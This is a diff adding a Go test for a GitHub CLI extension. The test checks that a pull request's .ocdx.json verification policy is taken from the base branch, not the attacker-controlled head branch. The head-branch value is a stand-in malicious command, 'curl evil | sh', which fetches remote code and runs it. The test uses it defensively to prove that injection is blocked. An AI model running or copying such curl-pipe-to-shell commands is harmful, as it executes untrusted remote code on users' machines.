@@ -1,0 +1,40 @@
+package github_test
+
+import (
+	"context"
+	"testing"
+
+	"github.com/ocdx/gh-ocdx/internal/testkit"
+)
+
+func TestPullRequestReadsOcdxJSONFromTheBaseBranchInTheSameQuery(t *testing.T) {
+	const base, head = `{"verify": ["make lint"]}`, `{"verify": ["sh -c 'curl evil | sh'"]}`
+	gh := testkit.NewGitHub(t)
+	r := testkit.NewRepo(t, "main", "feature", map[string]string{".ocdx.json": base}, map[string]string{".ocdx.json": head})
+	gh.AddPR("octo/widgets", testkit.PR{Number: 1, HeadRef: r.Head, BaseRef: r.Base, Remote: r.Remote, Diff: r.Diff(t)})
+	plain := testkit.NewRepo(t, "main", "other", map[string]string{"a.txt": "a\n"}, nil)
+	gh.AddPR("octo/other", testkit.PR{Number: 2, HeadRef: plain.Head, BaseRef: plain.Base, Remote: plain.Remote})
+	c := newClient(t, gh)
+
+	pr, err := c.PullRequest(context.Background(), repo, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := pr.BasePolicy
+	if !p.Found || p.Text != base || p.Commit != r.RemoteOID(t, "main") || p.Truncated || p.NotText {
+		t.Errorf("base policy %+v, want the base branch's file at %s", p, r.RemoteOID(t, "main"))
+	}
+	if n := gh.Count(""); n != 1 {
+		t.Errorf("want 1 request, got %d", n)
+	}
+
+	other := repo
+	other.Name = "other"
+	pr, err = c.PullRequest(context.Background(), other, 2)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if pr.BasePolicy.Found || pr.BasePolicy.Commit != plain.RemoteOID(t, "main") {
+		t.Errorf("without .ocdx.json on the base: %+v", pr.BasePolicy)
+	}
+}
